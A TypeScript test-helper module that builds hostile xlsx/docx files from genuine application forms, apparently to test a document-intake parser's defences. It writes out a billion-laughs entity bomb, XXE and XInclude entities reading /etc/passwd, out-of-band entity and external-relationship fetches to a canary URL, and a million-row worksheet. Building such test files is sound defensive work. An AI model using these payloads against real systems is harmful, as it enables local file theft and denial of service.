// Real 申請書 xlsx/docx files turned hostile: one part rewritten (a DTD with entity bombs or external
// entities, XInclude), parts added (traversal names, symlinks, thousands of entries) or replaced by
// a bomb. Starting from a genuine form means the only thing wrong is the attack itself.
import { unzipSync } from 'fflate';
import { streamedEntry } from './hostile-zip.js';
import { writeZip, zipEntry, type ZipEntry } from './zip-writer.js';

/** The file's parts as raw entries (directory entries dropped), `replace` swapped in, `extra` appended. */
export function rezip(file: Buffer, replace: Readonly<Record<string, ZipEntry | string>>, extra: readonly ZipEntry[] = []): Buffer {
  const parts = unzipSync(file);
  const entries = Object.entries(parts)
    .filter(([name]) => !name.endsWith('/'))
    .map(([name, bytes]) => {
      const replacement = replace[name];
      if (replacement === undefined) return zipEntry(name, Buffer.from(bytes));
      return typeof replacement === 'string' ? zipEntry(name, Buffer.from(replacement, 'utf8')) : replacement;
    });
  return writeZip([...entries, ...extra]);
}

/** The text of one part of an OOXML file. */
export function partText(file: Buffer, name: string): string {
  const bytes = unzipSync(file)[name];
  if (!bytes) throw new Error(`no part ${name}`);
  return Buffer.from(bytes).toString('utf8');
}

/** Puts a DOCTYPE after the XML declaration and `reference` at the start of the first text element. */
export function withDoctype(xml: string, doctype: string, reference: string, textElement: 'w:t' | 't'): string {
  const declarationEnd = xml.indexOf('?>') + 2;
  const withDtd = `${xml.slice(0, declarationEnd)}\n${doctype}\n${xml.slice(declarationEnd)}`;
  return withDtd.replace(new RegExp(`<${textElement}(\\s[^>]*)?>`), (open) => `${open}${reference}`);
}

/** Billion laughs: ten levels of tenfold entities, 10^9 "lol"s (3 GB) from a few hundred bytes. */
export function billionLaughs(root: string): { doctype: string; reference: string } {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= 9; level += 1) levels.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  return { doctype: `<!DOCTYPE ${root} [\n${levels.join('\n')}\n]>`, reference: '&lol9;' };
}

/** Entities that would read a local file, fetch a URL, and pull in an external DTD (out-of-band XXE). */
export function externalEntities(root: string, canaryUrl: string): { doctype: string; reference: string } {
  const doctype = [
    `<!DOCTYPE ${root} [`,
    '<!ENTITY file SYSTEM "file:///etc/passwd">',
    `<!ENTITY net SYSTEM "${canaryUrl}xxe-entity">`,
    `<!ENTITY % remote SYSTEM "${canaryUrl}xxe-dtd">`,
    '%remote;',
    ']>',
  ].join('\n');
  return { doctype, reference: '&file;&net;' };
}

/** XInclude elements in the first paragraph of a docx body (no DTD needed for these). */
export function withXInclude(documentXml: string, canaryUrl: string): string {
  const include = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}xinclude"/>`;
  return documentXml.replace(/<w:p(\s[^>]*)?>/, (open) => `${open}${include}`);
}

/** A relationship to an external target (a template, an external workbook link) at the canary. */
export function withExternalRelationship(relsXml: string, type: string, canaryUrl: string): string {
  const relationship = `<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${canaryUrl}${type}" TargetMode="External"/>`;
  return relsXml.replace('</Relationships>', `${relationship}</Relationships>`);
}

const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';
/** Rows generated per chunk handed to the deflater. */
const ROWS_PER_CHUNK = 10_000;

/**
 * A worksheet of `rows` one-cell rows, deflated as it is generated. Rows carry no r attribute
 * (optional in SpreadsheetML) so that a million of them stay under INTAKE_MAX_XML_MB and it is the
 * cell limit that stops them.
 */
export function millionRowSheet(name: string, rows: number): Promise<ZipEntry> {
  function* chunks(): Generator<Buffer> {
    yield Buffer.from(SHEET_HEAD);
    for (let first = 1; first <= rows; first += ROWS_PER_CHUNK) {
      let text = '';
      for (let r = first; r < Math.min(first + ROWS_PER_CHUNK, rows + 1); r += 1) text += `<row><c><v>${r % 10}</v></c></row>`;
      yield Buffer.from(text);
    }
    yield Buffer.from(SHEET_TAIL);
  }
  return streamedEntry(name, chunks());
}
